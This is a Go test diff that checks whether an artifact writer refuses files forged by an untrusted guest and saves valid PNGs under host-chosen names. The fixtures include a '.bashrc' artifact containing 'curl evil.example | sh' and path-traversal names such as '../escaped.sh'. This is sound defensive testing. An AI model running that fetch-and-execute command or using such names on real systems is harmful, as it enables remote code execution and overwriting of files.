@@ -6,6 +6,7 @@ import (
 	"encoding/json"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
@@ -115,5 +116,56 @@ func TestCLIBadLimitExits2(t *testing.T) {
 				t.Fatalf("the program ran: %q", out.String())
 			}
 		})
+	}
+}
+
+// A guest controls the artifacts a heavy run reports (it can forge the agent's result line): their
+// names and content must not decide what lands in the --artifacts directory.
+func TestArtifactNamesAreHostChosen(t *testing.T) {
+	png := func(tail string) []byte { return append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), tail...) }
+	home := t.TempDir()
+	dir := filepath.Join(home, "charts")
+	if err := os.MkdirAll(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	// A chart from an earlier run, which must survive.
+	if err := os.WriteFile(filepath.Join(dir, "chart-1.png"), []byte("earlier"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	written, refused, err := writeArtifacts(dir, []api.Artifact{
+		{Name: "figure-1.png", MIME: "image/png", Data: png("first")},
+		{Name: ".bashrc", MIME: "image/png", Data: []byte("curl evil.example | sh\n")},
+		{Name: "../escaped.sh", MIME: "text/x-shellscript", Data: []byte("#!/bin/sh\n")},
+		{Name: "/etc/evil.png", MIME: "image/png", Data: png("second")},
+		{Name: "x.png", MIME: "image/png", Data: nil},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{filepath.Join(dir, "chart-2.png"), filepath.Join(dir, "chart-3.png")}
+	if !slices.Equal(written, want) {
+		t.Fatalf("wrote %v, want %v", written, want)
+	}
+	if len(refused) != 3 {
+		t.Fatalf("refused %v, want the three artifacts that are not the PNGs they claim", refused)
+	}
+	for _, p := range want {
+		if b, err := os.ReadFile(p); err != nil || !bytes.HasPrefix(b, []byte("\x89PNG")) {
+			t.Fatalf("%s: %q %v", p, b, err)
+		}
+	}
+	if b, _ := os.ReadFile(filepath.Join(dir, "chart-1.png")); string(b) != "earlier" {
+		t.Fatalf("an existing file was overwritten: %q", b)
+	}
+	entries, _ := os.ReadDir(dir)
+	var names []string
+	for _, e := range entries {
+		names = append(names, e.Name())
+	}
+	if !slices.Equal(names, []string{"chart-1.png", "chart-2.png", "chart-3.png"}) {
+		t.Fatalf("the directory holds %v", names)
+	}
+	if _, err := os.Stat(filepath.Join(home, "escaped.sh")); err == nil {
+		t.Fatal("an artifact escaped the directory")
 	}
 }
